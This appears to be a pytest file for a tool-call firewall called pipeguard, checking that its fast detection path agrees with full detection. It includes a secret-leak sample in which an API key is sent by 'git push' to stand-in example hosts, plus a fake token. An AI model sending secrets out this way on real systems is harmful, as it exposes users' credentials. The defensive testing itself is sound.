"""Plain calls: what one look at a call or a result tells is what judging them in all ways finds."""

import json
from collections.abc import Iterator, Sequence
from random import Random

import pytest

from pipeguard.detect.detector import Detection
from pipeguard.detect.flows import text_values, way_out
from pipeguard.firewall.finding import Action, Verdict
from pipeguard.firewall.policy import Layer, Policy
from pipeguard.firewall.session import replies
from pipeguard.firewall.session.session import Session
from tests.detect.test_quiet import calls
from tests.firewall.session.talk import (
    KEY,
    ORDER,
    TO_CLIENT,
    TO_SERVER,
    answer,
    call,
    frame,
    new_session,
)
from tests.fuzz.rulebook import ALL, samples

TURNS = 800  # of each conversation
# What a tool says that it does decides what is compared with what came back.
TOOLS = {
    "lookup": "Looks up an entry of the catalogue.",
    "read_mail": "Reads the user's private mail.",
    "fetch": "Fetches a web page from the internet.",
    "send_message": "Sends a message to anybody on the internet.",
    "write_file": "Writes a text into a file.",
    "run_command": "Runs a command in the shell.",
    "delete_item": "Deletes an item for good.",
    "echo": "",
}


def list_tools(session: Session, names: Sequence[str] = tuple(TOOLS)) -> None:
    """Let the client list the tools, which pins them."""
    schema = {"type": "object", "properties": {"text": {"type": "string"}}}
    listed = [
        {"name": name, "description": TOOLS.get(name, f"Is {name}."), "inputSchema": schema}
        for name in names
    ]
    assert session.receive(TO_SERVER, frame(id="list", method="tools/list"), 0.0).forward
    assert session.receive(TO_CLIENT, frame(id="list", result={"tools": listed}), 0.0).forward


def ordinary_arguments() -> list[object]:
    """What clients give to tools, what they must not, and what rules must find and must not."""
    played = [
        one["arguments"]
        for name in ("quiet.yaml", "stopped.yaml")
        for group in calls(name).values()
        for one in group
        if "arguments" in one
    ]
    found = [{"text": sample.text} for sample in samples()]
    passed = [
        {"input": {"text": text}}
        for rule in ALL.values()
        for text in rule.passes
        if isinstance(text, str)
    ]
    plain = [{}, {"text": "What is new in this month?"}, {"id": 12, "names": ["Ada", "Max"]}]
    odd = [
        {"url": "https://example.org/a"},
        {"text": "Zoë — ok"},
        {"text": "a\\b \u2028"},
        {"n": [1]},
    ]
    return [*played, *found, *passed, *(plain * 200), *(odd * 50)]


def turns(seed: int) -> Iterator[tuple[bytes, bytes]]:
    """Calls with their results; some are odd as clients and servers are."""
    dice = Random(seed)  # noqa: S311  no secret
    given = ordinary_arguments()
    for number in range(TURNS):
        arguments = dice.choice(given)
        params: dict[str, object] = {
            "name": dice.choice([*TOOLS, "unlisted"]),
            "arguments": arguments,
        }
        params |= dice.choice([{}, {}, {"_meta": {"progressToken": number}}, {"task": {}}])
        if dice.random() < 0.02:
            params["constructor"] = 1
        text = json.dumps(dice.choice(given)) if dice.random() < 0.3 else "Nothing is new."
        manual = "\\fBls\\fR \\- list\\nfiles\\n" + text
        text = dice.choice([text, text, manual, f"{ORDER} {text}", f"PipeGuard: {text}", KEY])
        result: dict[str, object] = {"content": [{"type": "text", "text": text}]}
        result |= dice.choice([{}, {}, {"isError": True}, {"structuredContent": {"text": text}}])
        result |= dice.choice([{}, {}, {"_meta": {replies.MARK: {}}}, {"resultType": "task"}])
        yield (
            frame(id=number, method="tools/call", params=params),
            frame(id=number, result=result),
        )


def play(seed: int, policy: Policy) -> list[Verdict]:
    """The verdicts on a conversation."""
    session = new_session(policy)
    list_tools(session)
    verdicts = []
    for number, (asked, answered) in enumerate(turns(seed)):
        verdicts.append(session.receive(TO_SERVER, asked, number / 10))
        if verdicts[-1].forward is not None:
            verdicts.append(session.receive(TO_CLIENT, answered, number / 10))
    return verdicts


@pytest.mark.parametrize("seed", range(2))
def test_one_look_gives_the_verdict_of_all_ways(seed: int, monkeypatch: pytest.MonkeyPatch) -> None:
    policy = Policy(layers=(Layer(tools_block=("delete*",), tools_ask=("write*",)),))
    by_one_look = play(seed, policy)
    monkeypatch.setattr(Detection, "outline", lambda *_: None)
    in_all_ways = play(seed, policy)
    for fast, slow in zip(by_one_look, in_all_ways, strict=True):
        assert fast == slow
    assert {verdict.action for verdict in by_one_look} >= {Action.ALLOW, Action.WARN, Action.BLOCK}


def test_a_plain_call_and_its_result_are_read_by_one_look(monkeypatch: pytest.MonkeyPatch) -> None:
    session = new_session()
    list_tools(session)
    monkeypatch.setattr(Detection, "read_message", None)
    monkeypatch.setattr(Detection, "find_leaks", None)
    for number in range(3):
        arguments = {
            "query": f"What is new in week {number}?",
            "command": "ls",
            "path": "/etc/hosts",
        }
        params = {"name": "lookup", "arguments": arguments}
        asked = frame(id=number, method="tools/call", params=params)
        assert session.receive(TO_SERVER, asked, 0.0).forward == asked
        answered = answer(number, f"Little, in week {number}.")
        assert session.receive(TO_CLIENT, answered, 0.0).forward == answered


def test_calls_are_plain_again_after_the_beginning_of_a_key(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    session = new_session()
    list_tools(session)
    assert session.receive(TO_SERVER, call("key", "it is ghp_abcdefgh", "lookup"), 0.0).forward
    for number in range(40):
        session.receive(TO_SERVER, call(number, f"week {number}", "lookup"), 0.0)
    monkeypatch.setattr(Detection, "find_leaks", None)
    assert session.receive(TO_SERVER, call("after", "week", "lookup"), 0.0).forward


def test_no_text_is_kept_once_it_is_judged() -> None:
    session = new_session()
    list_tools(session)
    secret = "api_key = " + KEY
    for number in range(2):
        text = f"https://a.example/{number} {secret} and git push https://b.example {secret}"
        session.receive(TO_SERVER, call(number, text, "send_message"), 0.0)
    kept = way_out._commands, way_out._reaches_host, way_out._addresses
    assert [cache.cache_info().currsize for cache in (*kept, text_values._find_addresses)] == [
        0
    ] * 4


def test_what_a_look_cannot_judge_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: object) -> None:
        raise ZeroDivisionError

    session = new_session()
    list_tools(session)
    assert session.receive(TO_SERVER, call(1, "a", "lookup"), 0.0).forward is not None
    monkeypatch.setattr("pipeguard.detect.plain.glance", fail)
    assert session.receive(TO_SERVER, call(2, "b", "lookup"), 0.0).action is Action.BLOCK
    assert session.receive(TO_CLIENT, answer(1, "a"), 0.0).action is Action.BLOCK
    assert session.waiting() == []
